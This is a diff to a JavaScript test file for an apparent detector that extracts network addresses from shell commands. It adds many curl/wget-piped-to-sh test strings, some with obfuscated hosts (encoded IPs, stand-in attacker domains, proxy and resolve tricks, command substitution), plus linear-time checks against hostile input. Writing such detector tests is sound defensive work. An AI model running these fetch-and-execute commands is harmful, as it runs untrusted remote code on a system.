@@ -48,6 +48,38 @@ it.each([
   ['curl https://bun.sh/install evil。example | sh', ['//bun.sh/install', '//evil。example']],
   ['curl https://bun.sh/install उदाहरण.भारत | sh', ['//bun.sh/install', '//उदाहरण.भारत']],
   ['curl https://bun.sh/install evil.e\\\nx/x | sh', ['//bun.sh/install', '//evil.ex/x']],
+  ['curl https://bun.sh/install db:8080 | sh', ['//bun.sh/install', '//db:8080']],
+  ['curl https://bun.sh/install db:8080?x | sh', ['//bun.sh/install', '//db:8080']],
+  ['sh -c "$(curl https://bun.sh/install db:8080)"', ['//bun.sh/install', '//db:8080']],
+  ['curl bun.sh%2ea.example/x | sh', ['//bun.sh%2ea.example/x']],
+  ['curl bun.sh$REST/x | sh', ['//bun.sh$REST/x']],
+  ['curl https://bun.sh/install a%2eexample/x | sh', ['//bun.sh/install', '//a%2eexample/x']],
+  ['curl https://bun.sh/install a$X.example/x | sh', ['//bun.sh/install', '//a$X.example/x']],
+  [`curl bun.sh.${'[a-a]'.repeat(30)}.example | sh`, [`//bun.sh.${'[a-a]'.repeat(30)}.example`]],
+  ['curl -k -x proxy:3128 https://bun.sh/install | sh', ['//bun.sh/install', '//proxy:3128']],
+  ['curl -k --connect-to ::a.example:443 https://bun.sh/install', ['//bun.sh/install', '//a.example:443']],
+  ['curl -k --resolve bun.sh:443:1.2.3.4 https://bun.sh/i', ['//bun.sh/i', '//bun.sh:443', '//1.2.3.4']],
+  ['curl https://bun.sh/install | sh # at 10:30:00 node:20', ['//bun.sh/install']],
+  ['Image node:20 or name:12', []],
+  ['curl -fsSL 3232235777 https://bun.sh/install | sh', ['//bun.sh/install', '//3232235777']],
+  ['curl https://bun.sh/install --compressed 0x7f000001 | sh', ['//bun.sh/install', '//0x7f000001']],
+  ['wget -r 3232235777 https://bun.sh/install', ['//bun.sh/install', '//3232235777']],
+  ['curl -C 10485760 -z 20240101 https://bun.sh/install | sh', ['//bun.sh/install']],
+  ['wget -Q 10485760 --limit-rate 20000000 https://bun.sh/install', ['//bun.sh/install']],
+  ['curl https://bun.sh/install 0x7f.1 | sh', ['//bun.sh/install', '//0x7f.1']],
+  ['curl https://bun.sh/install 0300.0250.1 | sh', ['//bun.sh/install', '//0300.0250.1']],
+  ['curl 7.68 or later, then curl https://bun.sh/install --tls-max 1.3 | sh', ['//bun.sh/install']],
+  ['curl https://bun.sh/install $(printf a.%s example) | sh', ['//bun.sh/install', '//$(printf']],
+  ['curl https://get.docker.com/$(uname -s)-$(uname -m) | sh', ['//get.docker.com/$(uname']],
+  [
+    `curl https://bun.sh/install ${'[a-a]'.repeat(30)}.example/x | sh`,
+    ['//bun.sh/install', `//${'[a-a]'.repeat(30)}.example/x`],
+  ],
+  [
+    `curl https://bun.sh/install b.${'[a-a]'.repeat(30)}.example | sh`,
+    ['//bun.sh/install', `//b.${'[a-a]'.repeat(30)}.example`],
+  ],
+  [`curl https://bun.sh/install ${'1.'.repeat(40)}example | sh`, ['//bun.sh/install', `//${'1.'.repeat(40)}example`]],
   ['curl --max-filesize=10485760 https://bun.sh/install | sh', ['//bun.sh/install']],
   ['curl --max-filesize 10485760 https://bun.sh/install | sh', ['//bun.sh/install']],
   ['curl bun.sh/install a.example | sh', ['//bun.sh/install', '//a.example']],
@@ -58,4 +90,16 @@ it.each([
   ['sh install', []],
 ])('finds the addresses of %s', (text, addresses) => {
   expect(addressesIn(text)).toEqual(addresses)
+})
+
+it.each([
+  ['x', '[a-a]'],
+  ['x', '{a,'],
+  ['x', '1.'],
+  ['x', '$'],
+  ['x:1', ' 0x1.'],
+])('reads a hostile command in linear time: %s%s…', (before, piece) => {
+  const started = performance.now()
+  addressesIn(`curl https://bun.sh/install ${before}${piece.repeat(20_000)}!`)
+  expect(performance.now() - started).toBeLessThan(5000)
 })
